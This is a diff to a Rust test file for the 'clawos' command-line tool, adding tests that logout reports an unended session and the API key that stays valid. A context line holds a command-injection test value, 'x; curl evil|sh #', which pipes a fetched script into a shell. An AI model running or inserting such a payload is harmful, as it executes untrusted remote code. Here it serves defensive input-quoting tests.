@@ -2,7 +2,7 @@
 
 use std::io::{Read, Write};
 
-use serde_json::json as value;
+use serde_json::{Value, json as value};
 
 use crate::place::{Place, code, json};
 
@@ -134,4 +134,72 @@ fn a_cursor_is_one_word_of_a_command() {
         assert!(text.contains("more: add --cursor 'x; curl evil|sh #'"), "{text}");
     }
     answering.join().expect("two answers");
+}
+
+/// A place where bob is signed in to the server at `origin`, with the API key of his enrolment.
+fn signed_in(origin: &str) -> Place {
+    let place = Place::new();
+    let session = session(origin, "2026-01-01T00:00:00.000Z");
+    std::fs::create_dir_all(place.path().join("home")).expect("made");
+    std::fs::write(place.path().join("home/session.json"), session.to_string()).expect("written");
+    place
+}
+
+/// A session whose refresh token ends at this time, as it is kept.
+fn session(origin: &str, until: &str) -> Value {
+    let time = "2026-01-01T00:00:00.000Z";
+    value!({
+        "origin": origin, "access_token": "a", "access_expires_at": time, "refresh_token": "r",
+        "refresh_expires_at": until,
+        "agent": { "id": "agt_1", "name": "bob", "wallet": "w", "description": "", "roles": [], "created_at": time },
+        "api_key": { "id": "key_1", "key": "claw_sk_1", "scopes": [], "expires_at": null },
+    })
+}
+
+/// A server's refusal.
+fn refusal(line: &'static str, status: u16, code: &str) -> (&'static str, String) {
+    let body = value!({
+        "type": "t", "title": "t", "status": status, "code": code, "retryable": false, "detail": "d",
+        "request_id": "", "errors": [],
+    });
+    (line, body.to_string())
+}
+
+#[test]
+fn a_session_that_could_not_be_ended_is_told_with_its_end_and_the_key_that_was_kept_with_it() {
+    // The access token is over; the refresh token still gives a new session, which is then not ended.
+    let renewed = session("", "2031-02-03T04:05:06.000Z");
+    let answers = vec![
+        refusal("401 Unauthorized", 401, "unauthenticated"),
+        ("200 OK", renewed.to_string()),
+        refusal("403 Forbidden", 403, "forbidden"),
+    ];
+    let (origin, answering) = lying_server(answers);
+    let place = signed_in(&origin);
+    let output = place.clawos(&["--json", "--server", &origin, "logout"]);
+    answering.join().expect("three answers");
+    assert_eq!(code(&output), 3, "{output:?}");
+    let problem = json(&output.stderr);
+    let detail = problem["detail"].as_str().expect("a detail");
+    assert!(detail.contains("until 2031-02-03T04:05:06Z"), "the new session's end: {detail}");
+    assert!(detail.contains("API key key_1") && detail.contains("stays valid"), "{detail}");
+    assert!(!place.path().join("home/session.json").exists());
+}
+
+#[test]
+fn who_signs_out_is_told_of_the_key_that_stays_valid() {
+    let gone = || refusal("401 Unauthorized", 401, "unauthenticated");
+    for flags in [&["--json"][..], &[]] {
+        let (origin, answering) = lying_server(vec![gone(), gone()]);
+        let place = signed_in(&origin);
+        let output = place.clawos(&[flags, &["--server", &origin, "logout"]].concat());
+        answering.join().expect("two answers");
+        assert_eq!(code(&output), 0, "{output:?}");
+        if flags.is_empty() {
+            let text = String::from_utf8(output.stderr).expect("text");
+            assert!(text.contains("API key key_1 of the registration stays valid"), "{text}");
+        } else {
+            assert_eq!(json(&output.stdout)["api_key_still_valid"], "key_1");
+        }
+    }
 }
